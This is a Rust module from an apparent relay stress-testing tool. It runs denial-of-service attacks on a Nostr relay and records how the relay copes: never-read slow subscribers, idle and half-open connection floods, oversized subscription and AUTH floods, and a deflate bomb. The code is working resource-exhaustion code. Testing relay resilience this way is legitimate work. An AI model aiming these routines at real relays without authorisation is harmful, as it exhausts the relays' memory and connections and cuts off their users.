//! Attacks on the relay's memory and sockets: slow readers, idle
//! connection floods, oversized subscriptions, deflate bombs.

use super::*;

/// Connections that subscribe to everything stored and live, many times
/// over, and never read: the relay's queues for them can only grow.
pub(super) async fn slow_readers(mut ctx: Ctx) -> Found {
    let mut f = Found::default();
    let n = ctx.p().slow_readers;
    let reqs = ctx.p().slow_reader_reqs.max(1);
    let mut held = Vec::new();
    let mut failed = 0;
    for i in 0..n {
        if ctx.over() {
            break;
        }
        let mut conn = match ctx.open(i as u64).await {
            Ok(c) => c,
            Err(_) => {
                failed += 1;
                continue;
            }
        };
        let mut msg = Vec::new();
        for r in 0..reqs {
            msg.clear();
            let all = Filter {
                limit: Some(5_000),
                ..Filter::new()
            };
            write::req(&mut msg, &format!("all{r}"), &[all]);
            conn.writer.queue_text(&msg);
        }
        if conn.writer.flush().await.is_err() {
            failed += 1;
        }
        held.push(conn);
    }
    f.metrics.insert("slow_readers".into(), held.len() as f64);
    f.notes.push(format!(
        "{} connections × {reqs} subscriptions of everything (limit 5000), never read; {failed} failed to open or send",
        held.len()
    ));
    ctx.hold().await;
    // Dropped unread: the relay sees a reset, as from a client that vanished.
    drop(held);
    f
}

/// Many idle connections and half-open upgrades from one address.
pub(super) async fn idle_flood(mut ctx: Ctx) -> Found {
    let mut f = Found::default();
    let n = ctx.p().idle_flood;
    let half = ctx.p().half_open;
    let url: WsUrl = ctx.target().url.clone();
    // Half-open upgrades: TCP connected, the request head never finished.
    let mut stalled = Vec::new();
    let mut half_failed = 0;
    for _ in 0..half {
        if ctx.over() {
            break;
        }
        match crate::ws::tcp_connect(&url).await {
            Ok(mut s) => {
                let head = format!(
                    "GET {} HTTP/1.1\r\nHost: {}:{}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n",
                    url.path, url.host, url.port
                );
                if s.write_all(head.as_bytes()).await.is_ok() {
                    stalled.push(s);
                } else {
                    half_failed += 1;
                }
            }
            Err(_) => half_failed += 1,
        }
    }
    let sem = Arc::new(Semaphore::new(64));
    let mut handles = Vec::with_capacity(n);
    for i in 0..n {
        let sem = sem.clone();
        let target = ctx.target().clone();
        let seed = ctx.seed ^ i as u64;
        let deadline = ctx.deadline;
        handles.push(tokio::spawn(async move {
            let _permit = sem.acquire_owned().await.expect("semaphore never closed");
            if Instant::now() >= deadline {
                return None;
            }
            let t0 = Instant::now();
            Some(Conn::open(&target, seed).await.map(|c| (c, t0.elapsed())))
        }));
    }
    let mut conns = Vec::new();
    let (mut refused, mut timed_out, mut skipped) = (0u64, 0u64, 0u64);
    for h in handles {
        match h.await {
            Ok(Some(Ok((c, lat)))) => {
                f.op("attack:connect").success(lat);
                conns.push(c);
            }
            Ok(Some(Err(Error::Handshake(m)))) if m == "timed out" => {
                timed_out += 1;
                f.op("attack:connect").fail(Failure::Timeout);
            }
            Ok(Some(Err(_))) => {
                refused += 1;
                f.op("attack:connect").fail(Failure::ConnectFailed);
            }
            _ => skipped += 1,
        }
    }
    ctx.hold().await;
    // How many of them the relay has closed meanwhile.
    let mut closed_ws = 0u64;
    for c in &mut conns {
        let r = tokio::time::timeout(Duration::from_millis(1), c.reader.next()).await;
        if matches!(r, Ok(Err(_)) | Ok(Ok(Admitted::Close(_)))) {
            closed_ws += 1;
        }
    }
    let mut closed_half = 0u64;
    for s in &stalled {
        let mut b = [0u8; 256];
        if s.try_read(&mut b).is_ok() {
            // Data (an error response) or 0 (closed): the relay gave up on it.
            closed_half += 1;
        }
    }
    f.metrics.insert("idle_accepted".into(), conns.len() as f64);
    f.metrics
        .insert("idle_refused".into(), (refused + timed_out) as f64);
    f.metrics
        .insert("idle_closed_by_relay".into(), closed_ws as f64);
    f.metrics.insert("half_open".into(), stalled.len() as f64);
    f.metrics
        .insert("half_open_closed_by_relay".into(), closed_half as f64);
    f.notes.push(format!(
        "{n} idle connections: {} accepted, {refused} refused, {timed_out} timed out, {skipped} not tried before the end; {closed_ws} of the accepted closed by the relay by the end; {} half-open upgrades ({half_failed} failed to connect), {closed_half} answered or closed by the relay",
        conns.len(),
        stalled.len()
    ));
    drop(stalled);
    for c in conns {
        drop(c);
    }
    f
}

/// Random lowercase letters.
pub(super) fn letters(rng: &mut Rng, n: usize) -> String {
    (0..n)
        .map(|_| (b'a' + rng.below(26) as u8) as char)
        .collect()
}

/// A REQ of `filters` filters, each a list of values under `key` (an
/// array key such as `authors` or `#t`), built as text: the point is its size.
pub(super) fn list_req(
    sub: &str,
    filters: usize,
    key: &str,
    values: &mut dyn FnMut() -> String,
    per: usize,
) -> Vec<u8> {
    let mut s = String::with_capacity(filters * per * 8 + 64);
    s.push_str("[\"REQ\",\"");
    s.push_str(sub);
    s.push('"');
    for _ in 0..filters {
        s.push_str(",{\"");
        s.push_str(key);
        s.push_str("\":[");
        for v in 0..per {
            if v > 0 {
                s.push(',');
            }
            s.push('"');
            s.push_str(&values());
            s.push('"');
        }
        s.push_str("]}");
    }
    s.push(']');
    s.into_bytes()
}

/// Oversized live subscriptions, then AUTH after AUTH and many small REQs.
pub(super) async fn oversized_subs(mut ctx: Ctx) -> Found {
    let mut f = Found::default();
    let p = ctx.p().clone();
    let filters = p.oversized_filters.max(1);
    let budget = p.message_bytes.max(1_000);
    let mut rng = Rng::new(ctx.seed);
    let sent: SentSubs = Arc::default();
    let mut drains = Vec::new();
    let mut writers = Vec::new();
    const CONNS: usize = 4;
    for i in 0..CONNS {
        match ctx.open(i as u64).await {
            Ok(c) => {
                let Conn { reader, writer, .. } = c;
                drains.push(tokio::spawn(drain(reader, sent.clone(), ctx.stop.clone())));
                writers.push(writer);
            }
            Err(_) => f.op("attack:connect").fail(Failure::ConnectFailed),
        }
    }
    if writers.is_empty() {
        f.failed = Some("no attacking connection opened".into());
        return f;
    }
    // Three shapes in turn: authors (as many as fit), short `#t` values,
    // and one filter whose `#t` list fills the message.
    let authors_per = p.oversized_values.min(budget / filters / 67).max(1);
    let short_len = (budget / filters / p.oversized_values.max(1))
        .saturating_sub(3)
        .clamp(1, 16);
    let one_list = (budget / 11).max(1);
    let mut sent_reqs = 0;
    let mut bytes = 0usize;
    for r in 0..p.oversized_reqs {
        if ctx.over() {
            break;
        }
        let sub = format!("big{r}");
        let msg = match r % 3 {
            0 => list_req(
                &sub,
                filters,
                "authors",
                &mut || random_hex32(&mut rng),
                authors_per,
            ),
            1 => list_req(
                &sub,
                filters,
                "#t",
                &mut || letters(&mut rng, short_len),
                p.oversized_values,
            ),
            _ => list_req(&sub, 1, "#t", &mut || letters(&mut rng, 8), one_list),
        };
        bytes += msg.len();
        let k = writers.len();
        let w = &mut writers[r % k];
        sent.lock().expect("sent lock").insert(sub, Instant::now());
        if w.send_text(&msg).await.is_err() {
            break;
        }
        sent_reqs += 1;
    }
    f.notes.push(format!(
        "{sent_reqs} oversized live REQs ({} MiB): {filters} filters × {authors_per} authors, {filters} filters × {} `#t` values of {short_len} letters, 1 filter × {one_list} `#t` values",
        bytes >> 20,
        p.oversized_values
    ));
    // AUTH with a fresh key each time, on a connection of its own, then small REQs.
    let auth_part = auth_flood(&ctx, &p, &mut rng, &sent).await;
    f.notes.push(auth_part);
    ctx.hold().await;
    for w in &mut writers {
        let _ = w.close().await;
    }
    answered(&mut f, "the oversized REQs", drains).await;
    f
}

/// One slow message, then many compressed messages that each inflate to
/// `message_bytes`.
pub(super) async fn deflate_bomb(mut ctx: Ctx) -> Found {
    let mut f = Found::default();
    let p = ctx.p().clone();
    let mut target = ctx.target().clone();
    target.url.deflate = Some(nostrwire_websocket::deflate::DeflateConfig {
        level: 9,
        server_context_takeover: false,
        client_context_takeover: false,
        min_size: 0,
    });
    let conn = match Conn::open(&target, ctx.seed).await {
        Ok(c) => c,
        Err(e) => {
            f.failed = Some(format!("attacking connection failed: {e}"));
            return f;
        }
    };
    if !conn.writer.compresses() {
        f.unsupported = Some("relay declined permessage-deflate".into());
        conn.close().await;
        return f;
    }
    let Conn {
        reader, mut writer, ..
    } = conn;
    let sent: SentSubs = Arc::default();
    let drainer = tokio::spawn(drain(reader, sent.clone(), ctx.stop.clone()));
    let mut rng = Rng::new(ctx.seed);
    // The slow message in front: a search of many terms.
    let slow = hostile_search_req("slow", p.search_terms.min(p.message_bytes / 8), &mut rng);
    sent.lock()
        .expect("sent lock")
        .insert("slow".into(), Instant::now());
    writer.queue_text(&slow);
    let _ = writer.flush().await;
    // One REQ whose single `#t` value fills the message, compressed once
    // (no context takeover: each message stands alone) and repeated.
    let head = br##"["REQ","bomb",{"#t":[""##;
    let tail = br##""]}]"##;
    let mut bomb = Vec::with_capacity(p.message_bytes);
    bomb.extend_from_slice(head);
    bomb.resize(
        p.message_bytes.saturating_sub(tail.len()).max(head.len()),
        b'a',
    );
    bomb.extend_from_slice(tail);
    writer.queue_text(&bomb);
    let frame = writer.take_queued();
    let mut sent_n = 0;
    for i in 0..p.deflate_messages {
        if ctx.over() {
            break;
        }
        writer.queue_raw(&frame);
        if (i + 1) % 100 == 0 || i + 1 == p.deflate_messages {
            if writer.flush().await.is_err() {
                break;
            }
            sent_n = i + 1;
        }
    }
    f.metrics.insert("deflate_sent".into(), sent_n as f64);
    f.notes.push(format!(
        "one search of {} terms, then {sent_n} messages of {} bytes each inflated from a {} byte frame ({} MiB inflated in all)",
        p.search_terms.min(p.message_bytes / 8),
        bomb.len(),
        frame.len(),
        (sent_n * bomb.len()) >> 20
    ));
    ctx.hold().await;
    let _ = writer.close().await;
    if let Ok(t) = drainer.await {
        f.op("attack:eose").merge(&t.eose);
        f.notes.push(format!(
            "relay answered: {}{}",
            t.describe(),
            if t.dropped {
                "; it closed the connection"
            } else {
                ""
            }
        ));
    }
    f
}
